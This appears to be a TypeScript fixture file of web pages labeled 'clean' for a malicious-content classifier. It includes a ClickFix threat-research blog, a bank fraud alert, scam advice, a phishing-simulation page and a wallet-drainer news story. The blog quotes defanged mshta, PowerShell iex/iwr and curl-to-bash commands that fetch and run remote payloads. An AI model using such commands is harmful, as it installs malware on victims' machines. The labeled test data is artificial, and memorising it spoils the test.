import { type Entry } from '../entry.js';
import { baseCss, clarity, cookieBanner, doc, gtag, siteFooter, siteNav } from '../parts/d-parts.js';
import { blog } from '../parts/d-benign-articles.js';

export const entries: Entry[] = [

{
  id: 'd-ok-blog-clickfix-analysis',
  label: 'clean',
  kind: 'security-blog-quotes-clickfix',
  url: 'https://research.ostrava-threatlabs.com/blog/clickfix-campaigns-2026-fake-captcha',
  body: blog({
    title: 'Inside the fake CAPTCHA wave: how ClickFix lures turn users into the installer',
    site: 'Ostrava ThreatLabs',
    accent: '#0ea5e9',
    author: 'Petra Nováková',
    date: '2026-10-14',
    head: gtag('G-OTL55Q1X9P'),
    body: String.raw`<p>Since early 2025 we have tracked hundreds of compromised WordPress sites injecting a fake reCAPTCHA overlay. The overlay never asks the user to click images; instead, clicking the checkbox silently copies a command to the clipboard and displays "verification steps":</p>
<blockquote>Verification steps<br>1. Press Windows Button "⊞" + R<br>2. Press CTRL + V<br>3. Press Enter</blockquote>
<p>The clipboard payload we observed most often looked like this (defanged):</p>
<pre><code>mshta hxxps://cdn-verify[.]example/captcha/v.hta # ✅ ''I am not a robot - reCAPTCHA Verification ID: 7024''</code></pre>
<p>The trailing comment is what the victim sees in the Run dialog, pushing the actual command out of view. Later variants switched to PowerShell:</p>
<pre><code>powershell -w h -nop -c "iex (iwr hxxps://statsync[.]example/v2/check.ps1 -UseBasicParsing).Content"</code></pre>
<p>And macOS variants ask the user to open Terminal and paste:</p>
<pre><code>/bin/bash -c "$(curl -fsSL hxxps://macupdate[.]example/install.sh)"</code></pre>
<h2>How the page writes to the clipboard</h2><p>The injected script uses a hidden textarea and <code>document.execCommand('copy')</code> or <code>navigator.clipboard.writeText()</code> on the checkbox click. It does not need any permission prompt because it runs inside a user gesture.</p>
<h2>Detection and mitigation</h2><ul><li>Disable the Run dialog via GPO for users who don't need it (<code>NoRun</code>).</li><li>Alert on <code>mshta.exe</code> or <code>powershell.exe</code> spawned by <code>explorer.exe</code> with a URL argument.</li><li>Train users: no legitimate CAPTCHA ever asks you to press Win+R.</li></ul>
<h2>Indicators</h2><table class="ioc"><tr><td>cdn-verify[.]example</td><td>HTA stager</td></tr><tr><td>statsync[.]example</td><td>PS loader</td></tr><tr><td>SHA256 4e1a…9c02</td><td>Lumma Stealer</td></tr></table>`,
  }),
},

{
  id: 'd-ok-bank-security-alert-page',
  label: 'clean',
  kind: 'bank-security-info',
  url: 'https://www.caixa-montealto.pt/seguranca/alertas-de-fraude',
  body: doc({
    title: 'Alertas de fraude | Caixa Montealto',
    lang: 'pt-PT',
    css: baseCss('#005a9c') + `.al{border-left:4px solid #d9534f;padding:12px 16px;background:#fff5f5;margin:16px 0}`,
    body: `${siteNav({ brand: 'Caixa Montealto', links: ['Particulares', 'Empresas', 'Segurança', 'Contactos'], cta: 'Entrar' })}
<main class="container" style="max-width:820px;padding:30px 24px"><h1>Alertas de fraude</h1><p>Estamos a detetar campanhas de phishing que utilizam o nome da Caixa Montealto. Veja exemplos das mensagens recebidas pelos nossos clientes:</p>
<div class="al"><b>SMS fraudulento (novembro 2026):</b><br>"CAIXA: O seu acesso foi bloqueado por motivos de segurança. Para reativar, verifique a sua conta em hxxps://caixa-montealto-pt[.]info"</div>
<div class="al"><b>E-mail fraudulento:</b><br>"Caro cliente, é necessário atualizar os seus dados até hoje. Caso contrário, a sua conta será suspensa. Introduza o código de acesso e o número de telemóvel."</div>
<h2>Lembre-se</h2><ul><li>A Caixa Montealto nunca pede códigos de autorização, senha completa ou dados do cartão por SMS, e-mail ou telefone.</li><li>Aceda sempre escrevendo <b>www.caixa-montealto.pt</b> no navegador.</li><li>Se forneceu dados, ligue de imediato para a Linha de Apoio 217 000 123 (24h).</li></ul></main>
${siteFooter({ company: 'Caixa Montealto, CRL' })}${cookieBanner('pt')}`,
  }),
},

{
  id: 'd-ok-consumer-techsupport-scam-guide',
  label: 'clean',
  kind: 'consumer-advice',
  url: 'https://www.consumer-protection-board.org/scams/tech-support-pop-ups',
  body: doc({
    title: 'Tech support scams: fake virus pop-ups | Consumer Protection Board',
    css: baseCss('#065f46') + `.shot{border:6px solid #0078d7;background:#fff;padding:14px;font-family:Segoe UI;margin:14px 0}`,
    body: `${siteNav({ brand: 'Consumer Protection Board', links: ['Scams', 'Money', 'Shopping', 'Report fraud'] })}
<main class="container" style="max-width:820px;padding:30px 24px"><h1>Tech support scams: fake virus pop-ups</h1><p>Scammers create web pages that look like a warning from Microsoft, Apple or your antivirus. They often go full-screen, play a loud alarm and refuse to close. A typical pop-up says:</p>
<div class="shot"><b>** ACCESS TO THIS PC HAS BEEN BLOCKED FOR SECURITY REASONS **</b><br>Your computer has alerted us that it has been infected with a Trojan Spyware. Call Microsoft Support: +1-8XX-XXX-XXXX (Toll Free)</div>
<p>This is fake. Microsoft and Apple never put phone numbers in error messages. Do not call the number, do not let anyone remote into your computer, and never pay with gift cards.</p>
<h2>How to close the pop-up</h2><ol><li>Press <b>Esc</b> to leave full screen, or press and hold <b>F11</b>.</li><li>Close the browser with <b>Ctrl + Shift + Esc</b> → Task Manager → End task.</li><li>Reopen the browser and don't restore the previous session.</li></ol>
<p>If you already paid, contact your bank right away and report it at <a href="/report">our fraud reporting page</a> or call our helpline <b>1-877-555-0100</b> (Mon–Fri 8am–8pm).</p></main>
${siteFooter({ company: 'Consumer Protection Board' })}`,
  }),
},

{
  id: 'd-ok-phishing-simulation-landing',
  label: 'clean',
  kind: 'phishing-training',
  url: 'https://training.aware-phish-sim.com/landing/oops?cid=q4-parcel&uid=8812',
  body: doc({
    title: 'This was a phishing simulation',
    css: baseCss('#16a34a') + `.b{max-width:720px;margin:40px auto}.flag{background:#fef9c3;padding:4px 8px;border-radius:4px}`,
    body: `<div class="b card"><h1>🎣 Oops — this was a simulated phishing email</h1><p>Don't worry: no data was collected. Your organisation's security team sent this test to help everyone learn how to spot phishing.</p><h2>What gave it away?</h2><ul><li><span class="flag">Sender</span> "Royal Maii Delivery" used a look-alike address.</li><li><span class="flag">Urgency</span> "Your parcel will be returned in 24 hours unless you pay £1.45."</li><li><span class="flag">Link</span> The button pointed to <code>royalmail.redelivery-uk-parcel.example</code>, not royalmail.com.</li><li><span class="flag">Request</span> It asked for card details and date of birth.</li></ul>
<p>Next time, report suspicious emails with the <b>Report Phish</b> button in Outlook.</p><a class="btn" href="/training/module/parcel-scams?uid=8812">Take the 3-minute refresher</a></div>`,
  }),
},

{
  id: 'd-ok-news-drainer-heist-report',
  label: 'clean',
  kind: 'crypto-news',
  url: 'https://www.blockwire-news.com/security/2026/11/drainer-kit-permit2-losses',
  body: doc({
    title: 'Permit2 phishing drains $8.4M in November — here is how the scam works | Blockwire',
    head: clarity('k2m9x1q7zp'),
    css: baseCss('#111827') + `article{max-width:760px;margin:30px auto;padding:0 24px;font-size:18px}pre{background:#f3f4f6;padding:12px;border-radius:6px;font-size:13px;white-space:pre-wrap}`,
    body: `${siteNav({ brand: 'Blockwire', links: ['Markets', 'Policy', 'Tech', 'Security', 'Podcasts'], cta: 'Subscribe' })}
<article><h1>Permit2 phishing drains $8.4M in November — here is how the scam works</h1><p class="muted">By Lena Ortiz · Nov 27, 2026</p><p>Victims visited fake "airdrop claim" sites promoted by hijacked X accounts. After clicking <i>Connect Wallet</i>, the site asked them to sign what looked like a harmless message. In fact it was an EIP-712 <code>PermitBatch</code> for the Permit2 contract granting the attacker an unlimited allowance:</p>
<pre>{ "details": [{ "token": "0xdAC1…1ec7", "amount": "1461501637330902918203684832716283019655932542975" }], "spender": "0x8f3B…1e02" }</pre>
<p>Security firm ScamRadar says the kit, sold as a service for 20% of proceeds, also sends <code>setApprovalForAll</code> for NFT collections and sweeps native ETH with a final <code>eth_sendTransaction</code>.</p><p>"Never sign a permit for a site you reached from a link in a reply," said ScamRadar's CTO.</p></article>
${siteFooter({ company: 'Blockwire Media' })}${cookieBanner('en')}`,
  }),
},

];
